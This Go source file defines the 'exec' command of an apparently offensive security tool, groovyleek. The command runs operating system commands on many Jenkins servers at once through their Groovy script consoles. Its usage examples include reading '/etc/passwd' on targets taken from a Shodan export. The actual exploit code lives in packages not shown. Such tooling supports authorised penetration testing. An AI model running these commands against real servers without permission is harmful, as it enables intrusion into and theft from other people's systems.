package exec

import (
	"context"
	"maps"
	"os"
	"os/signal"

	"github.com/CompassSecurity/groovyleek/internal/cmd/flags"
	"github.com/CompassSecurity/groovyleek/pkg/config"
	pkgexec "github.com/CompassSecurity/groovyleek/pkg/jenkins/exec"
	"github.com/CompassSecurity/groovyleek/pkg/jenkins/scriptconsole"
	"github.com/rs/zerolog/log"
	"github.com/spf13/cobra"
)

type ExecCommandOptions struct {
	flags.CommonOptions
	Command     string
	Shell       string
	KillTimeout int
	Crumb       bool
	Report      string
}

var options = ExecCommandOptions{}

func NewExecCmd() *cobra.Command {
	execCmd := &cobra.Command{
		Use:   "exec",
		Short: "Execute a command through the script console",
		Long: `Execute an operating system command on every target by submitting a Groovy script to its script console.

With --shell auto the command is first run through cmd.exe /c. If the target answers with a
Jetty stack trace, which happens when cmd.exe does not exist, the command is sent once more without a prefix.`,
		Example: `
# Single target
groovyleek jk exec --jenkins http://10.0.0.5:8080 --command "id"

# Jenkins mounted at the web root of every host in a list
groovyleek jk exec --targets hosts.txt --target-uri /script --port 8080 --command "hostname" --report findings.jsonl

# Known Linux targets, no retry
groovyleek jk exec --targets shodan.json --shell posix --command "cat /etc/passwd"
		`,
		Run: Exec,
	}

	execCmd.Flags().StringVarP(&options.Command, "command", "c", "whoami", "Command to execute on the targets")
	execCmd.Flags().StringVarP(&options.Shell, "shell", "s", string(scriptconsole.ShellAuto), "Command prefix: auto (cmd.exe /c, then none), windows or posix")
	execCmd.Flags().IntVarP(&options.KillTimeout, "kill-timeout", "", scriptconsole.DefaultKillTimeout, "Milliseconds after which the spawned process is killed")
	execCmd.Flags().BoolVarP(&options.Crumb, "crumb", "", true, "Fetch a CSRF crumb before submitting the script")
	execCmd.Flags().StringVarP(&options.Report, "report", "r", "", "Append successful executions as JSON lines to this file")
	flags.AddCommonFlags(execCmd, &options.CommonOptions)

	return execCmd
}

// bindFlags maps the exec flags below jenkins.* and the shared flags to their own keys.
func bindFlags(cmd *cobra.Command) error {
	overrides := maps.Clone(flags.TargetFlagMappings)
	maps.Copy(overrides, flags.CommonFlagMappings)
	return config.BindCommandFlags(cmd, "jenkins", overrides)
}

func Exec(cmd *cobra.Command, args []string) {
	if err := bindFlags(cmd); err != nil {
		log.Fatal().Err(err).Msg("Failed to bind command flags to configuration keys")
	}

	if err := flags.ApplyConfigToCommonOptions(cmd, &options.CommonOptions); err != nil {
		log.Fatal().Err(err).Msg("Invalid common options")
	}

	if err := config.RequireConfigKeys("jenkins.command"); err != nil {
		log.Fatal().Err(err).Msg("required configuration missing")
	}

	shell, err := scriptconsole.ParseShell(config.GetString("jenkins.shell"))
	if err != nil {
		log.Fatal().Err(err).Msg("Invalid shell")
	}

	all, err := flags.ResolveTargets()
	if err != nil {
		log.Fatal().Err(err).Msg("Unable to determine targets")
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	_, err = pkgexec.RunExec(ctx, pkgexec.Options{
		Targets:     all,
		Command:     config.GetStringValue(cmd, "command", func(c *config.Config) string { return c.Jenkins.Command }),
		Shell:       shell,
		KillTimeout: config.GetInt("jenkins.kill_timeout"),
		Threads:     options.Threads,
		Crumb:       config.GetBoolValue(cmd, "crumb", func(c *config.Config) bool { return c.Jenkins.Crumb }),
		ReportFile:  config.GetString("jenkins.report"),
	})
	if err != nil {
		log.Fatal().Err(err).Msg("Exec failed")
	}
}
